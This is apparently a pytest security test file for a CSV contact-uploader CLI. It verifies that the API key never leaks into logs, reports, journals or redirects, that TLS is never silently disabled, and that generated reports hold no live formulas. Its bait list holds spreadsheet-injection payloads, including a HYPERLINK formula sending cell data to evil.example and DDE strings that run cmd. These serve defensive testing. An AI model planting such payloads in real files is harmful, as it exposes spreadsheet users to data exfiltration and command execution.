"""The API key never lands anywhere, reports hold no live formulas, TLS is never off silently.

Every artefact of real ``python -m uploader`` runs (stdout, stderr, the ``--log-file`` with
``--debug``, the journal's raw bytes, reports, the failed-rows file, ``config show``) is searched
for a distinctive key, after a successful run in both modes, an authentication failure and a run
that exhausts its retries on 5xx answers.
"""

from __future__ import annotations

import csv
import datetime as dt
import http.server
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
import uvicorn

from uploader.emulator import EmulatorHandle, EmulatorSettings, create_app, running_emulator
from uploader.emulator.server import bind_socket

KEY = "sk-live-7Hq2ZpX9vR4mW8kT3nB6yC1dF5gJ0aLs"
WRONG_KEY = "sk-live-WRONG-Qm4Zt8Yp2Xv6Rn1Ks5Jh9Gd3"
FRAGMENTS = (KEY, KEY[8:-4], WRONG_KEY, WRONG_KEY[8:-4])

BAIT = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=1+1",
]


@pytest.fixture(scope="module")
def _emu_server() -> Iterator[EmulatorHandle]:
    with running_emulator(EmulatorSettings(api_keys=(KEY,), seed=5)) as handle:
        yield handle


@pytest.fixture
def emu(_emu_server: EmulatorHandle) -> EmulatorHandle:
    """An emulator accepting only :data:`KEY`, emptied for each test."""
    _emu_server.reset()
    return _emu_server


def _contacts(path: Path) -> Path:
    """Valid rows carrying formula bait in every free-text column, plus refused bait rows."""
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["reference_id", "phone", "first_name", "=note"])
        for i, bait in enumerate(BAIT):
            writer.writerow([f"r{i}", f"(512) 555-01{i:02d}", bait, bait])
        writer.writerow(["=bad1", "=1+2", "=x", "@y"])  # refused: not a phone number
        writer.writerow(["bad2", "+cmd|' /C calc'!A0", "-1-1", "+x"])
    return path


def _run(
    work: Path, *args: str, key: str | None = KEY, env_extra: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("SYLLABLE_", "UPLOADER_"))}
    env.update(env_extra or {})
    if key is not None:
        env["SYLLABLE_API_KEY"] = key
    config = work / "config.toml"
    if not config.exists():
        config.write_text("# no profiles: flags and environment only\n", encoding="utf-8")
    env["SYLLABLE_UPLOAD_CONFIG"] = str(config)
    return subprocess.run(
        [sys.executable, "-m", "uploader", *args],
        capture_output=True,
        text=True,
        env=env,
        cwd=work,
        timeout=300,
    )


def _upload(contacts: Path, server_url: str, journal: Path) -> list[str]:
    """``upload <contacts> --campaign-id 7 --server-url <url> --journal <journal>``."""
    return [
        "upload", str(contacts), "--campaign-id", "7", "--server-url", server_url,
        "--journal", str(journal),
    ]  # fmt: skip


def _results(work: Path, server_url: str) -> list[str]:
    """``results`` of the run journalled in ``work/j.sqlite``, reported to ``results.csv``."""
    return [
        "results", "--journal", str(work / "j.sqlite"), "--server-url", server_url,
        "--report", str(work / "results.csv"),
    ]  # fmt: skip


def _assert_no_key(work: Path, *runs: subprocess.CompletedProcess[str]) -> int:
    """Search every output and every file under ``work``; returns how many places were read."""
    places = 0
    for run in runs:
        for text in (run.stdout, run.stderr):
            places += 1
            for fragment in FRAGMENTS:
                assert fragment not in text, f"key in output: {text[-500:]}"
    for path in sorted(work.rglob("*")):
        if not path.is_file() or path.name.endswith(".key"):
            continue
        places += 1
        data = path.read_bytes()
        for fragment in FRAGMENTS:
            for encoded in (fragment.encode(), fragment.encode("utf-16-le")):
                assert encoded not in data, f"key in {path.name}"
    return places


@pytest.mark.slow
@pytest.mark.parametrize("mode", ["upload", "add"])
def test_a_successful_run_writes_the_key_nowhere(
    mode: str, emu: EmulatorHandle, tmp_path: Path
) -> None:
    contacts = _contacts(tmp_path / "contacts.csv")
    command = [*_upload(contacts, emu.url, tmp_path / "j.sqlite"), "--mode", mode]
    upload = _run(
        tmp_path,
        "--debug",
        "--log-file",
        str(tmp_path / "run.log"),
        *command,
        "--report",
        str(tmp_path / "report.xlsx"),
        "--failed",
        str(tmp_path / "failed.csv"),
        "--json",
    )
    assert upload.returncode == 1, upload.stderr  # two rows refused on purpose
    rerun = _run(tmp_path, *command)
    results = _run(
        tmp_path,
        "--log-file",
        str(tmp_path / "results.log"),
        *_results(tmp_path, emu.url),
    )
    show = _run(tmp_path, "config", "show")
    show_json = _run(tmp_path, "config", "show", "--json")
    assert show.returncode == show_json.returncode == 0
    assert "****" + KEY[-2:] in show.stdout  # masked, yet recognisable
    assert (tmp_path / "run.log").stat().st_size > 0
    assert (tmp_path / "j.sqlite").stat().st_size > 0
    assert (tmp_path / "report.xlsx").exists() and (tmp_path / "failed.csv").exists()
    places = _assert_no_key(tmp_path, upload, rerun, results, show, show_json)
    assert places >= 14


def test_a_wrong_key_fails_clearly_and_is_not_echoed(emu: EmulatorHandle, tmp_path: Path) -> None:
    contacts = _contacts(tmp_path / "contacts.csv")
    key_file = tmp_path / "wrong.key"
    key_file.write_text(WRONG_KEY + "\n", encoding="utf-8")
    runs = [
        _run(
            tmp_path,
            "--debug",
            "--log-file",
            str(tmp_path / "auth.log"),
            *_upload(contacts, emu.url, tmp_path / "j.sqlite"),
            "--report",
            str(tmp_path / "report.csv"),
            key=WRONG_KEY,
        ),
        _run(
            tmp_path,
            *_upload(contacts, emu.url, tmp_path / "j2.sqlite"),
            "--api-key-file",
            str(key_file),
            key=None,
        ),
        _run(tmp_path, "config", "show", "--api-key-file", str(key_file), key=None),
    ]
    for run in runs[:2]:
        assert run.returncode == 2, run.stderr
        assert "403" in run.stderr or "key" in run.stderr.lower()
    assert emu.stats()["creates_applied"] == 0
    _assert_no_key(tmp_path, *runs)


def test_retries_exhausted_on_5xx_leave_no_key(emu: EmulatorHandle, tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text(
        'default_profile = "p"\n[profiles.p]\nmax_attempts = 2\nmax_retry_seconds = 5\n',
        encoding="utf-8",
    )
    contacts = _contacts(tmp_path / "contacts.csv")
    emu.set_faults(error_rate=1.0)
    try:
        run = _run(
            tmp_path,
            "--debug",
            "--log-file",
            str(tmp_path / "5xx.log"),
            *_upload(contacts, emu.url, tmp_path / "j.sqlite"),
            "--mode",
            "add",
        )
    finally:
        emu.clear_faults()
    assert run.returncode == 2, run.stderr
    assert "Traceback" in run.stderr or "error:" in run.stderr  # --debug shows the traceback
    _assert_no_key(tmp_path, run)


def test_the_key_search_finds_a_leak(tmp_path: Path) -> None:
    """The checks above can fail: a key in a file, raw or UTF-16, is found."""
    (tmp_path / "leak.db").write_bytes(b"\x00header" + KEY[8:-4].encode("utf-16-le"))
    with pytest.raises(AssertionError, match=r"key in leak\.db"):
        _assert_no_key(tmp_path)


# --------------------------------------------------------------------------- no live formulas


def _formula_cells(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    found = [
        f"{ws.title}!{cell.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    wb.close()
    return found


def _live_csv_cells(path: Path) -> list[str]:
    live = []
    with path.open(encoding="utf-8-sig", newline="") as handle:
        for row in csv.reader(handle):
            for value in row:
                if not value:
                    continue
                if value[0] in "=@\t\r\uff1d\uff20":
                    live.append(value)
                elif value[0] in "+-\uff0b\uff0d":
                    plain = value[1:].replace(".", "", 1)
                    if not plain.isdigit():
                        live.append(value)
    return live


def test_the_formula_checks_find_live_formulas(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    wb.active["A1"] = "=1+1"
    wb.save(tmp_path / "live.xlsx")
    assert _formula_cells(tmp_path / "live.xlsx") == ["Sheet!A1"]
    (tmp_path / "live.csv").write_text("a,+15125550101,-3.5,+cmd,=1\n", encoding="utf-8")
    assert _live_csv_cells(tmp_path / "live.csv") == ["+cmd", "=1"]


def test_reports_and_failed_files_hold_no_live_formula(emu: EmulatorHandle, tmp_path: Path) -> None:
    contacts = _contacts(tmp_path / "contacts.csv")
    outputs = {
        "report.xlsx": ("--report",),
        "failed.xlsx": ("--failed",),
    }
    run = _run(
        tmp_path,
        *_upload(contacts, emu.url, tmp_path / "j.sqlite"),
        *[arg for name, (flag,) in outputs.items() for arg in (flag, str(tmp_path / name))],
    )
    assert run.returncode == 1, run.stderr
    csv_run = _run(
        tmp_path,
        "validate",
        str(contacts),
        "--report",
        str(tmp_path / "validate.csv"),
    )
    assert csv_run.returncode == 1, csv_run.stderr
    results = _run(
        tmp_path,
        *_results(tmp_path, emu.url),
    )
    assert results.returncode in (0, 1), results.stderr
    for name in ("report.xlsx", "failed.xlsx"):
        assert _formula_cells(tmp_path / name) == [], name
    for name in ("validate.csv", "results.csv"):
        assert _live_csv_cells(tmp_path / name) == [], name
    # the bait is still there, visibly, as text
    wb = openpyxl.load_workbook(tmp_path / "report.xlsx")
    texts = {c.value for row in wb.worksheets[0].iter_rows() for c in row}
    wb.close()
    assert BAIT[0] in texts
    with (tmp_path / "validate.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = {v for row in csv.reader(handle) for v in row}
    assert "'" + BAIT[0] in cells


# --------------------------------------------------------------------------- TLS


def _self_signed(folder: Path) -> tuple[Path, Path]:
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")])
    now = dt.datetime.now(dt.UTC)
    import ipaddress

    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=1))
        .add_extension(
            x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]),
            critical=False,
        )
        .sign(key, hashes.SHA256())
    )
    cert_path, key_path = folder / "cert.pem", folder / "key.pem"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return cert_path, key_path


@pytest.fixture(scope="module")
def tls_emulator(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The emulator behind HTTPS with a self-signed certificate nobody trusts."""
    cert, key = _self_signed(tmp_path_factory.mktemp("tls"))
    sock = bind_socket("127.0.0.1", 0)
    config = uvicorn.Config(
        create_app(EmulatorSettings(api_keys=(KEY,))),
        log_level="warning",
        ssl_certfile=str(cert),
        ssl_keyfile=str(key),
        lifespan="on",
    )
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    while not server.started and thread.is_alive():
        threading.Event().wait(0.01)
    try:
        yield f"https://127.0.0.1:{sock.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join(10)
        sock.close()


WARNING = "TLS certificate verification is OFF"


def test_tls_is_verified_unless_insecure_is_given_and_then_it_warns(
    tls_emulator: str, tmp_path: Path
) -> None:
    contacts = _contacts(tmp_path / "contacts.csv")
    args = ["upload", str(contacts), "--campaign-id", "7", "--server-url", tls_emulator]
    strict = _run(tmp_path, *args, "--journal", str(tmp_path / "a.sqlite"))
    assert strict.returncode == 2
    assert "certificate" in strict.stderr.lower()
    assert WARNING not in strict.stderr
    assert "Traceback" not in strict.stderr
    insecure = _run(
        tmp_path, "--quiet", *args, "--insecure", "--journal", str(tmp_path / "b.sqlite")
    )
    assert insecure.returncode == 1, insecure.stderr  # went through; two rows refused
    assert WARNING in insecure.stderr
    _assert_no_key(tmp_path, strict, insecure)


def test_no_environment_variable_turns_tls_off(tls_emulator: str, tmp_path: Path) -> None:
    contacts = _contacts(tmp_path / "contacts.csv")
    env_tricks = {
        "SYLLABLE_VERIFY_TLS": "false",
        "SYLLABLE_INSECURE": "1",
        "PYTHONHTTPSVERIFY": "0",
        "CURL_CA_BUNDLE": "",
        "REQUESTS_CA_BUNDLE": "",
    }
    run = _run(
        tmp_path,
        *_upload(contacts, tls_emulator, tmp_path / "j.sqlite"),
        env_extra=env_tricks,
    )
    assert run.returncode == 2
    assert "certificate" in run.stderr.lower()


def test_a_profile_that_turns_tls_off_still_warns(tls_emulator: str, tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text(
        'default_profile = "lab"\n[profiles.lab]\nverify_tls = false\n', encoding="utf-8"
    )
    contacts = _contacts(tmp_path / "contacts.csv")
    run = _run(
        tmp_path,
        "--quiet",
        *_upload(contacts, tls_emulator, tmp_path / "j.sqlite"),
    )
    assert run.returncode == 1, run.stderr  # went through; two rows refused
    assert WARNING in run.stderr


# --------------------------------------------------------------------------- key hygiene


def test_the_key_cannot_be_given_on_the_command_line(tmp_path: Path) -> None:
    """A key in argv lands in ps output and shell history: only a file, env or profile."""
    for command in ("upload", "results", "batches", "config"):
        run = _run(tmp_path, command, "--help", key=None)
        assert run.returncode == 0, run.stderr
        flags = {word.rstrip(",") for word in run.stdout.split() if word.startswith("--")}
        assert not {"--api-key", "--key", "--token"} & flags, command


class _Recorder(http.server.BaseHTTPRequestHandler):
    """Answers every request with a redirect (A) or records who called with what (B)."""

    seen: list[dict[str, str]] = []  # noqa: RUF012  (shared on purpose: one test, two servers)
    target = ""

    def _answer(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        if length:
            self.rfile.read(length)
        if self.target:
            self.send_response(307)
            self.send_header("Location", self.target + self.path)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        type(self).seen.append(dict(self.headers.items()))
        body = b'{"detail": "captured"}'
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_PUT = do_DELETE = _answer

    def log_message(self, format: str, *args: object) -> None:
        pass


def test_a_redirect_never_carries_the_key_to_another_host(tmp_path: Path) -> None:
    capture = type("Capture", (_Recorder,), {"seen": [], "target": ""})
    other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), capture)
    other_url = f"http://127.0.0.1:{other.server_address[1]}"
    bouncer = type("Bouncer", (_Recorder,), {"seen": [], "target": other_url})
    front = http.server.ThreadingHTTPServer(("127.0.0.1", 0), bouncer)
    servers = [other, front]
    threads = [threading.Thread(target=s.serve_forever, daemon=True) for s in servers]
    for thread in threads:
        thread.start()
    try:
        run = _run(
            tmp_path,
            *_upload(
                _contacts(tmp_path / "contacts.csv"),
                f"http://127.0.0.1:{front.server_address[1]}",
                tmp_path / "j.sqlite",
            ),
        )
    finally:
        for server in servers:
            server.shutdown()
            server.server_close()
    assert run.returncode == 2, run.stderr
    assert "Traceback" not in run.stderr
    leaked = [h for h in capture.seen if any(KEY in v for v in h.values())]
    assert leaked == []
    _assert_no_key(tmp_path, run)
